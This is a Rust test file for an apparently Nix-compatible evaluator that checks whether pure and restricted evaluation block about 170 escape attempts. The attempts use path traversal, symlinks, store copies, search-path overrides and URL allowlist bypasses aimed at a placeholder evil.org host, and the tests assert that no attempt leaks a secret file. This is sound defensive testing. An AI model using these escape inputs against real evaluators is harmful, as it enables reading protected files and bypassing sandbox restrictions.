//! Attempts to see what pure and restricted evaluation hide, each with what comes of it.

use nivose::raw::{Evaluator, Options, Origin, PrintOptions, Settings};
use nivose::world::MemoryWorld;

/// `/allowed` may be read; `/secret` may not. Links lead from one to the other in several ways.
fn world() -> MemoryWorld {
    MemoryWorld::new()
        .with_current_directory("/allowed")
        .with_home("/home")
        .with_variable("SECRET", "secret")
        .with_time(1_234_567)
        .with_file("/allowed/file.nix", "\"allowed\"")
        .with_file("/allowed/text", "allowed")
        .with_file("/allowed/folder/default.nix", "\"folder\"")
        .with_file("/allowed2/text", "secret")
        .with_file("/secret/file.nix", "\"secret\"")
        .with_file("/secret/default.nix", "\"secret\"")
        .with_file("/secret/text", "secret")
        .with_file("/home/text", "secret")
        .with_symlink("/allowed/link", "/secret/text")
        .with_symlink("/allowed/link.nix", "/secret/file.nix")
        .with_symlink("/allowed/up", "..")
        .with_symlink("/allowed/dir", "/secret")
        .with_symlink("/allowed/relative", "../secret/text")
        .with_symlink("/allowed/chain", "chain2")
        .with_symlink("/allowed/chain2", "dir/text")
        .with_symlink("/allowed/inside", "text")
        .with_symlink("/allowed/indirect/default.nix", "/secret/default.nix")
        .with_symlink("/secret/back", "/allowed/text")
        .with_file("/nix/store/ppppppppppppppppppppppppppppppp0-x/text", "secret")
}

fn settings(pure_eval: bool) -> Settings {
    Settings {
        pure_eval,
        restrict_eval: !pure_eval,
        allowed_paths: vec![b"/allowed".to_vec()],
        nix_path: vec![(b"allowed".to_vec(), b"/allowed".to_vec())],
        allowed_uris: vec!["https://ok.org".to_owned(), "github:owner/".to_owned()],
        current_time: 1_234_567,
        ..Settings::default()
    }
}

/// The value of an attempt, or the headline of its error.
fn attempt(settings: Settings, text: &str) -> String {
    let mut evaluator = Evaluator::new(Options { settings, ..Options::default() }, Box::new(world()));
    let result = evaluator
        .evaluate(Origin::String, text.into(), b"/allowed".to_vec())
        .and_then(|value| evaluator.force_deep(value))
        .and_then(|value| evaluator.print(value, PrintOptions::INSTANTIATE));
    match result {
        Ok(value) => String::from_utf8_lossy(&value).into_owned(),
        Err(error) => error.text().into_owned(),
    }
}

const ATTEMPTS: &[&str] = &[
    "builtins.readFile /secret/text",
    "builtins.readFile \"/secret/text\"",
    "builtins.readFile ./../secret/text",
    "builtins.readFile (./. + \"/../secret/text\")",
    "builtins.readFile \"/allowed/../secret/text\"",
    "builtins.readFile \"/allowed/./folder/../../secret/text\"",
    "builtins.readFile \"//secret//text\"",
    "builtins.readFile /allowed2/text",
    "builtins.readFile ./link",
    "builtins.readFile ./relative",
    "builtins.readFile ./chain",
    "builtins.readFile ./dir/text",
    "builtins.readFile ./up/secret/text",
    "builtins.readFile ./up/allowed/dir/text",
    "builtins.readFile /secret/back",
    "builtins.readFile { outPath = \"/secret/text\"; }",
    "builtins.readFile { __toString = self: \"/secret/text\"; }",
    "builtins.readFile ~/text",
    "builtins.readFile /nix/store/ppppppppppppppppppppppppppppppp0-x/text",
    "import /secret/file.nix",
    "import \"/secret/file.nix\"",
    "import (builtins.concatStringsSep \"/\" [ \"\" \"secret\" \"file.nix\" ])",
    "import /secret",
    "import ./link.nix",
    "import ./dir",
    "import ./indirect",
    "import ./up/secret/file.nix",
    "import ./up/secret",
    "import ./up/allowed/dir/file.nix",
    "builtins.scopedImport { } ./up/secret/file.nix",
    "builtins.scopedImport { } /secret/file.nix",
    "builtins.scopedImport { } ./link.nix",
    "import <allowed/../secret/file.nix>",
    "import <allowed/dir/file.nix>",
    "import (builtins.findFile [ { path = \"/secret\"; prefix = \"s\"; } ] \"s/file.nix\")",
    "builtins.readDir /secret",
    "builtins.readDir ./dir",
    "builtins.readDir ./up/secret",
    "builtins.readFileType /secret/text",
    "builtins.readFileType ./dir/text",
    "builtins.pathExists /secret/text",
    "builtins.pathExists /secret/missing",
    "builtins.pathExists ./dir/text",
    "builtins.pathExists \"/secret/\"",
    "builtins.hashFile \"sha256\" /secret/text",
    "builtins.hashFile \"sha256\" ./link",
    "\"${/secret/text}\"",
    "\"${./link}\"",
    "\"${./dir/text}\"",
    "\"${./dir}\"",
    "toString ./link",
    "builtins.toJSON /secret/text",
    "\"\" + /secret/text",
    "builtins.stringLength /secret/text",
    "builtins.substring 0 5 /secret/text",
    "builtins.concatStringsSep \"\" [ /secret/text ]",
    "builtins.path { path = /secret/text; }",
    "builtins.path { path = ./dir; }",
    "builtins.path { path = /secret/text; filter = _: _: true; }",
    "builtins.filterSource (_: _: true) /secret",
    "builtins.filterSource (_: _: true) ./dir",
    "(derivation { name = \"d\"; system = \"s\"; builder = /secret/text; }).drvPath",
    "(derivation { name = \"d\"; system = \"s\"; builder = \"b\"; src = ./link; }).drvPath",
    "\"${./up/secret/text}\"",
    "\"${./up/secret}\"",
    "builtins.path { path = ./up/secret; }",
    "builtins.filterSource (_: _: true) ./up/secret",
    "builtins.pathExists ./up/secret/text",
    "builtins.readFileType ./up/secret/text",
    "builtins.hashFile \"sha256\" ./up/secret/text",
    "builtins.storePath /secret/text",
    "builtins.storePath /nix/store/ppppppppppppppppppppppppppppppp0-x",
    "builtins.fetchurl \"file:///secret/text\"",
    "builtins.fetchurl \"https://example.org/x\"",
    "builtins.fetchTarball \"file:///secret/text\"",
    "builtins.fetchGit /secret",
    "builtins.getEnv \"SECRET\"",
    "builtins.currentTime or \"absent\"",
    "builtins.currentSystem or \"absent\"",
    "builtins.nixPath",
    "builtins.tryEval (builtins.readFile /secret/text)",
    "(builtins.unsafeGetAttrPos \"a\" { a = 1; })",
    "builtins.readFile ./text",
    "builtins.readFile ./inside",
    "import ./file.nix",
    "import ./folder",
    "builtins.pathExists ./text",
    "builtins.readDir ./folder",
    "import <allowed/file.nix>",
    // What was copied into the store is read where it came from: its links lead out all the same.
    "builtins.readFile \"${./.}/link\"",
    "builtins.readFile \"${./.}/dir/text\"",
    "builtins.readFile \"${./.}/up/secret/text\"",
    "builtins.readFile \"${./.}/relative\"",
    "builtins.readFile \"${./.}/../../../secret/text\"",
    "builtins.readFile \"${./folder}/../../../secret/text\"",
    "builtins.readFile \"${./folder}/../text\"",
    "builtins.readFile (builtins.path { path = ./.; name = \"x\"; } + \"/dir/text\")",
    "builtins.readFile (builtins.filterSource (_: _: true) ./. + \"/dir/text\")",
    "import \"${./.}/link.nix\"",
    "import \"${./.}/dir\"",
    "import \"${./indirect}\"",
    "builtins.readDir \"${./.}/dir\"",
    "builtins.readDir \"${./.}/..\"",
    "builtins.pathExists \"${./.}/dir/text\"",
    "builtins.pathExists \"${./.}/up/secret/text\"",
    "builtins.hashFile \"sha256\" \"${./.}/link\"",
    "builtins.path { path = \"${./.}/dir\"; }",
    "builtins.filterSource (_: _: true) \"${./.}/up/secret\"",
    // Code that was written meanwhile.
    "import (builtins.toFile \"x.nix\" \"import /secret/file.nix\")",
    "import (builtins.toFile \"x.nix\" \"import ../../secret/file.nix\")",
    "import (builtins.toFile \"x.nix\" \"builtins.readFile ./../../../secret/text\")",
    "builtins.readFile (builtins.toFile \"x\" \"/secret/text\")",
    "builtins.scopedImport { builtins = { }; } (builtins.toFile \"x.nix\" \"import /secret/file.nix\")",
    // Contexts do not open the store.
    "builtins.readFile (builtins.appendContext \"/nix/store/ppppppppppppppppppppppppppppppp0-x/text\" { \"/nix/store/ppppppppppppppppppppppppppppppp0-x\" = { path = true; }; })",
    "builtins.pathExists \"/nix/store/ppppppppppppppppppppppppppppppp0-x\"",
    "builtins.readDir /nix/store",
    "builtins.readDir \"${builtins.storeDir}\"",
    // Search paths.
    "let __nixPath = [ { prefix = \"s\"; path = \"/secret\"; } ]; in import <s/file.nix>",
    "let __nixPath = [ { prefix = \"\"; path = /secret; } ]; in builtins.readFile <text>",
    "builtins.readFile (builtins.findFile builtins.nixPath \"allowed/dir/text\")",
    "builtins.readFile <allowed/up/secret/text>",
    "builtins.readFile <allowed/../secret/text>",
    "let __findFile = _: name: /secret + \"/${name}\"; in builtins.readFile <text>",
    "<nix/fetchurl.nix>",
    // Addresses.
    "builtins.fetchurl \"https://ok.org.evil.org/x\"",
    "builtins.fetchurl \"https://ok.org@evil.org/x\"",
    "builtins.fetchurl \"https://okorg/x\"",
    "builtins.fetchurl \"HTTPS://ok.org/x\"",
    "builtins.fetchurl \"https://ok.org\"",
    "builtins.fetchurl { url = \"https://ok.org/x\"; name = \"x\"; }",
    "builtins.fetchurl { url = \"file:///allowed/../secret/text\"; }",
    "builtins.fetchurl { url = \"file:///secret/text\"; sha256 = \"2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b\"; }",
    "builtins.fetchurl \"file:///allowed/text\"",
    "builtins.fetchurl \"file:///allowed2/text\"",
    "builtins.fetchTarball \"https://evil.org/x\"",
    "builtins.fetchTarball { url = \"/secret\"; }",
    "builtins.fetchGit { url = ./dir; }",
    "builtins.fetchGit \"https://ok.org.evil.org/x\"",
    "builtins.fetchTree { type = \"path\"; path = \"/secret\"; }",
    "builtins.getFlake \"path:/secret\"",
    "builtins.fetchClosure { fromStore = \"https://evil.org\"; fromPath = /nix/store/ppppppppppppppppppppppppppppppp0-x; }",
    "import <https://evil.org/x>",
    // Other names for the same place.
    "builtins.readFile \"secret/text\"",
    "builtins.readFile \"/allowed/text/../../secret/text\"",
    "builtins.readFile /allowed/missing/../../secret/text",
    "builtins.readFile \"/./secret/./text\"",
    "builtins.readFile (./dir + \"/text\")",
    "builtins.readFile (/. + \"secret/text\")",
    "builtins.readFile (builtins.toPath \"/secret/text\")",
    "builtins.readFile (builtins.dirOf /secret/text + \"/text\")",
    "builtins.readFile \"${toString ./.}/../secret/text\"",
    "builtins.readFile { outPath = ./dir + \"/text\"; }",
    "builtins.path { path = ./.; filter = path: kind: builtins.readFile \"${path}/../../secret/text\" == \"secret\"; }",
    "builtins.addErrorContext (builtins.readFile /secret/text) 1",
    "builtins.trace (builtins.readFile /secret/text) 1",
    "{ a = builtins.readFile /secret/text; }.a or \"none\"",
    "builtins.readFile ./text + builtins.readFile ./dir/text",
    "(derivation { name = \"d\"; system = \"s\"; builder = \"b\"; src = ./dir; }).drvPath",
    "(derivation { name = \"d\"; system = \"s\"; builder = \"b\"; __structuredAttrs = true; src = /secret/text; }).drvPath",
    "(derivation { name = \"d\"; system = \"s\"; builder = \"b\"; args = [ /secret/text ]; }).drvPath",
    "builtins.toXML /secret/text",
    "\"${builtins.toJSON { a = /secret/text; }}\"",
    "builtins.hashString \"sha256\" (builtins.readFile /secret/text)",
    "builtins.getEnv \"HOME\" + builtins.getEnv \"PATH\"",
    "builtins ? exec || builtins ? importNative",
    "builtins.unsafeDiscardStringContext (builtins.readFile /secret/text)",
    "builtins.attrNames (builtins.readDir /.)",
];

fn table(pure_eval: bool) -> String {
    ATTEMPTS.iter().map(|text| format!("{text}\n    {}\n", attempt(settings(pure_eval), text))).collect()
}

/// Compares with the table that is kept beside this file; `UPDATE=1` writes it.
fn check(name: &str, pure_eval: bool) {
    let file = format!("{}/tests/attacks/{name}.txt", env!("CARGO_MANIFEST_DIR"));
    let found = table(pure_eval);
    if std::env::var("UPDATE").is_ok() {
        std::fs::write(&file, &found).expect("the table can be written");
    }
    let expected = std::fs::read_to_string(&file).expect("the table is readable");
    for (found, expected) in found.lines().zip(expected.lines()) {
        assert_eq!(found, expected, "{name}");
    }
    assert_eq!(found.lines().count(), expected.lines().count(), "{name}");
}

#[test]
fn pure_evaluation_holds() {
    check("pure", true);
}

#[test]
fn restricted_evaluation_holds() {
    check("restricted", false);
}

/// Neither the text that is hidden nor its hash comes out.
#[test]
fn no_answer_holds_a_secret() {
    let hash = "2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b";
    for pure_eval in [true, false] {
        for text in ATTEMPTS {
            let answer = attempt(settings(pure_eval), text);
            assert_ne!(answer, "\"secret\"", "{text}");
            assert!(!answer.contains(hash), "{text}");
        }
    }
}
